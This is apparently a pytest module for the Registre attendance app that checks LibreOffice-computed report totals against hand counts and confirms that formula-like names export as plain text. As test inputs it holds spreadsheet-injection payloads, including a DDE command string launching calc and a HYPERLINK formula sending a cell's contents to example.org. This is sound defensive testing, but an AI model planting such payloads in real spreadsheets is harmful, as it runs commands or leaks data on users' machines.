"""Every workbook Registre writes, opened by LibreOffice (one run for all of them).

- Report totals: what LibreOffice computes from the report workbooks equals
  `registre report --format json`, the figures counted by hand, the values stored with the
  formulas (what a reader that never recalculates shows) and the PDF's total row.
- Text is text: names, organisations, positions and titles that a spreadsheet would take for a
  formula or DDE come back as typed from all five workbooks (report, activity report, sign-in
  sheet, HQ export, pseudonymised export), never as a computed value.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import python_calamine
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select

from desktop_app.activities.counting import PeriodFilter
from desktop_app.cli.main import main as cli
from desktop_app.privacy.pseudonymised import export_pseudonymised
from desktop_app.reports.data import activity_report, period_report
from desktop_app.reports.documents import period_document
from desktop_app.reports.pdf_render import render_pdf
from desktop_app.reports.xlsx import write_activity_xlsx, write_period_xlsx
from desktop_app.signin.printing import load_signin_sheet, write_signin_xlsx
from desktop_app.store import Database, open_database
from desktop_app.store.models import Activity, Organisation, Person
from desktop_app.sync.export import export_workbook
from desktop_app.workbooks.cells import looks_like_formula
from tests.postgres.databases import copy_database
from tests.reports.libreoffice import row_labelled, to_csv
from tests.reports.report_samples import DAYS, add_activity, add_head_count, add_person, attend

SYMPOSIUM_DAY = dt.date(2022, 11, 15)
HOSTILE_DAYS = (dt.date(2022, 10, 10), dt.date(2022, 10, 11))
HOSTILE_ORG = '=HYPERLINK("http://example.org/?"&A1,"x")'
# Counted by hand (docs/domain.md's rules, youth under 30) from `_record_activities`:
# training 8 (4 named + a head count of 4), symposium 154 (3 named + 151), workshop 2.
BY_HAND = {
    "participants": 8 + 154 + 2,
    "women": 3 + 53 + 1,
    "men": 4 + 101 + 0,
    "sex_not_stated": 1 + 0 + 1,
    "youth": 2 + 41 + 0,
    "age_unknown": 5 + 2 + 1,
    # Known by a birth year alone: TRAORÉ and SANOGO; TRAORÉ; ADAMOU (DIARRA's date is whole).
    "age_from_year_only": 2 + 1 + 1,
    "person_days": 11 + 154 + 3,
    "team": 2 + 0 + 1,
    "unique_persons": 163,  # TRAORÉ Awa came to two activities
}
FRENCH_COLUMNS = {
    "participants": "Participants",
    "women": "Femmes",
    "men": "Hommes",
    "sex_not_stated": "Sexe non précisé",
    "youth": "Jeunes (moins de 30 ans)",
    "age_unknown": "Âge inconnu",
    "age_from_year_only": "Âge d'après la seule année de naissance",
    "person_days": "Personnes-jours",
    "team": "Équipe",
}
TOTAL_FORMULA = re.compile(r"=SUBTOTAL\(109,[A-Z]+\d+:[A-Z]+\d+\)")


@dataclass
class Converted:
    json: dict[str, Any]
    workbooks: dict[str, Path]
    sheets: dict[str, dict[str, list[list[str]]]]
    hostile: dict[str, set[str]]  # workbook -> formula-like texts it must show as typed
    pdf_text: str


def _record_activities(database: Database) -> tuple[int, int]:
    """The training, the symposium and the workshop of the hand counts; returns the ids of
    the training and of the workshop whose people have names like formulas."""
    training = add_activity(
        database, title="Formation des médias", kind="training", start=DAYS[0], end=DAYS[2]
    )
    awa = add_person(database, "TRAORÉ", "Awa", sex="F", birth_year=1998, category="media")
    ibrahim = add_person(database, "DIARRA", "Ibrahim", sex="M", birth_date=dt.date(1970, 3, 15))
    mariam = add_person(database, "KONÉ", "Mariam", sex="F", category="civil_society")
    sanogo = add_person(database, "SANOGO", "", birth_year=2001)
    expert = add_person(database, "CHAPPUIS", "Fairlie", sex="F")
    facilitator = add_person(database, "COULIBALY", "Moussa", sex="M")
    for day in DAYS:
        attend(database, training, awa, day)
        attend(database, training, expert, day, role="expert")
    for day in DAYS[:2]:
        attend(database, training, ibrahim, day)
    attend(database, training, mariam, DAYS[2])
    attend(database, training, sanogo, DAYS[1])
    attend(database, training, facilitator, DAYS[0], role="facilitator")
    add_head_count(database, training, 4, day=DAYS[0], women=1)

    symposium = add_activity(
        database, title="Colloque national", kind="symposium", start=SYMPOSIUM_DAY
    )
    add_head_count(database, symposium, 151, women=51, youth=40)
    for person in (
        awa,
        add_person(database, "HAMANI", "Zeinabou", sex="F"),
        add_person(database, "ISSA", "Moussa", sex="M"),
    ):
        attend(database, symposium, person, SYMPOSIUM_DAY)

    workshop = add_activity(
        database,
        title="=1+1",
        start=HOSTILE_DAYS[0],
        end=HOSTILE_DAYS[1],
        partner=HOSTILE_ORG,
    )
    unknown = add_person(
        database, "=cmd|' /C calc'!A0", "-2+3", organisation=HOSTILE_ORG, position="@SUM(1+1)"
    )
    hadiza = add_person(
        database, "ADAMOU", "Hadiza", sex="F", birth_year=1990, organisation="\r=4+4"
    )
    with database.session() as session:
        stored = session.get(Person, hadiza)
        assert stored is not None
        stored.position = "\t=3+3"
    for day in HOSTILE_DAYS:
        attend(database, workshop, unknown, day)
    attend(database, workshop, hadiza, HOSTILE_DAYS[0])
    helper = add_person(database, "+227 MOUSSA", "Ali", sex="M")
    attend(database, workshop, helper, HOSTILE_DAYS[0], role="facilitator")
    return training, workshop


def _hostile_texts(database: Database, workshop: int) -> set[str]:
    """The formula-like texts as stored (whatever the store keeps of them)."""
    with database.session() as session:
        activity = session.get(Activity, workshop)
        assert activity is not None
        texts = {activity.title, *(p.name for p in activity.partners)}
        for person in session.scalars(select(Person)):
            texts |= {person.family_name, person.given_names or "", person.position or ""}
        texts |= set(session.scalars(select(Organisation.name)))
    hostile = {text for text in texts if looks_like_formula(text)}
    assert len(hostile) == 8, hostile
    return hostile


def _report_json(path: Path | str) -> dict[str, Any]:
    arguments = ["--from", "2022-01-01", "--to", "2022-12-31", "--youth-threshold", "30"]
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        assert cli(["--db", str(path), "report", *arguments, "--format", "json"]) == 0
    result: dict[str, Any] = json.loads(out.getvalue())
    return result


@pytest.fixture(scope="module")
def converted(
    template_db: Path | str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Converted]:
    folder = tmp_path_factory.mktemp("libreoffice")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("REGISTRE_CONFIG_DIR", str(folder / "config"))
        path = copy_database(template_db, folder, "office")
        database = open_database(path)
        training, workshop = _record_activities(database)
        hostile = _hostile_texts(database, workshop)
        report = period_report(database, PeriodFilter(dt.date(2022, 1, 1), dt.date(2022, 12, 31)))
        books = {name: folder / f"{name}.xlsx" for name in ("period_report", "activity_report")}
        write_period_xlsx(report, books["period_report"], "fr")
        write_activity_xlsx(activity_report(database, training), books["activity_report"], "fr")
        books["workshop_report"] = folder / "workshop_report.xlsx"
        write_activity_xlsx(activity_report(database, workshop), books["workshop_report"], "en")
        books["signin_sheet"] = folder / "signin_sheet.xlsx"
        sheet = load_signin_sheet(database, workshop, HOSTILE_DAYS[0], blank_rows=2)
        write_signin_xlsx(sheet, books["signin_sheet"], "fr")
        books["hq_export"] = export_workbook(database, folder / "hq_export.xlsx").path
        books["pseudonymised"] = export_pseudonymised(database, folder / "pseudonymised.xlsx").path
        render_pdf(period_document(report, "fr"), folder / "period_report.pdf")
        database.close()
        figures = _report_json(path)
    pdf_text = " ".join(
        page.extract_text() for page in PdfReader(folder / "period_report.pdf").pages
    )
    without_names = {HOSTILE_ORG, "=1+1"}  # titles and partners only
    yield Converted(
        json=figures,
        workbooks=books,
        sheets=to_csv(list(books.values()), folder),
        hostile={
            "period_report": {"=1+1"},
            "workshop_report": hostile,
            "signin_sheet": hostile,
            "hq_export": hostile,
            "pseudonymised": without_names,
        },
        pdf_text=re.sub(r"\s+", " ", pdf_text),
    )


def _counts(row: list[str], header: list[str], keys: list[str]) -> dict[str, int]:
    return {key: int(row[header.index(FRENCH_COLUMNS[key])]) for key in keys}


def test_the_period_workbook_totals_are_the_report_totals(converted: Converted) -> None:
    totals = converted.json["totals"]
    assert totals == BY_HAND
    keys = list(FRENCH_COLUMNS)
    sheets = converted.sheets["period_report"]
    activities = sheets["Activités"]
    header = activities[0]
    assert _counts(row_labelled(activities, "Total"), header, keys) == {k: totals[k] for k in keys}
    for activity in converted.json["activities"]:
        row = next(r for r in activities if r[1] == activity["title"])
        assert _counts(row, header, keys) == {k: activity[k] for k in keys}
    assert [r[0] for r in activities[1:4]] == ["10/10/2022", "15/11/2022", "05/12/2022"]
    for name in ("Par mois", "Par pays", "Par type"):
        rows = sheets[name]
        sums = _counts(row_labelled(rows, "Total"), rows[0], keys[:-1])
        assert sums == {k: totals[k] for k in keys[:-1]}, name
    assert [r[0] for r in sheets["Par mois"][1:4]] == [
        "octobre 2022",
        "novembre 2022",
        "décembre 2022",
    ]
    assert row_labelled(sheets["Par catégorie"], "Total")[1] == str(totals["participants"])
    summary = {row[0]: row[1] for row in reversed(sheets["Synthèse"]) if row and row[0]}
    assert summary["Personnes distinctes"] == str(totals["unique_persons"])
    assert summary["Participations (personne x activité)"] == str(totals["participants"])
    assert summary["Âge inconnu"] == str(totals["age_unknown"])
    assert summary["Âge d'après la seule année de naissance"] == str(totals["age_from_year_only"])
    shown = [
        totals[k]
        for k in (
            "participants",
            "women",
            "youth",
            "age_unknown",
            "age_from_year_only",
            "person_days",
        )
    ]
    assert f"Total {' '.join(map(str, shown))}" in converted.pdf_text


def test_the_stored_totals_are_the_computed_ones(converted: Converted) -> None:
    """A reader that never recalculates (a phone's viewer, a script) shows the stored values:
    the same as LibreOffice's own sums."""
    for name in ("period_report", "activity_report"):
        book = python_calamine.CalamineWorkbook.from_path(str(converted.workbooks[name]))
        for sheet_name in book.sheet_names:
            stored = book.get_sheet_by_name(sheet_name).to_python()
            shown = converted.sheets[name][sheet_name]
            stored_totals = [r for r in stored if r and r[0] == "Total"]
            shown_totals = [r for r in shown if r and r[0] == "Total"]
            assert len(stored_totals) == len(shown_totals)
            for ours, theirs in zip(stored_totals, shown_totals, strict=True):
                assert [_text(v) for v in ours] == theirs, (name, sheet_name)
        book.close()


def _text(value: object) -> str:
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value)


def test_the_activity_workbook_totals_are_the_activity_counts(converted: Converted) -> None:
    training = next(a for a in converted.json["activities"] if a["title"].startswith("Formation"))
    sheets = converted.sheets["activity_report"]
    summary: dict[str, str] = {}
    for row in sheets["Synthèse"]:
        if row and row[0]:
            summary.setdefault(row[0], row[1])
    assert {k: int(summary[FRENCH_COLUMNS[k]]) for k in FRENCH_COLUMNS} == {
        k: training[k] for k in FRENCH_COLUMNS
    }
    days = sheets["Par jour"]
    assert [r[0] for r in days[1:4]] == ["05/12/2022", "06/12/2022", "07/12/2022"]
    assert row_labelled(days, "Total")[1] == str(training["person_days"])
    assert row_labelled(sheets["Par catégorie"], "Total")[1] == str(training["participants"])


def test_formula_like_texts_come_back_as_typed_from_every_workbook(converted: Converted) -> None:
    for name, expected in converted.hostile.items():
        cells = {cell for rows in converted.sheets[name].values() for row in rows for cell in row}
        assert expected <= cells, (name, expected - cells)
        shown_errors = {c for c in cells if c.startswith(("Err:", "#NAME", "#VALUE", "#REF"))}
        assert not shown_errors, (name, shown_errors)


def test_the_only_formulas_are_the_report_totals(converted: Converted) -> None:
    formulas = 0
    for name, path in converted.workbooks.items():
        for sheet in load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        assert TOTAL_FORMULA.fullmatch(str(cell.value)), (name, cell.value)
                        formulas += 1
                    elif isinstance(cell.value, str) and looks_like_formula(cell.value):
                        assert cell.data_type == "s" and cell.quotePrefix, (name, cell.value)
    assert formulas > 20
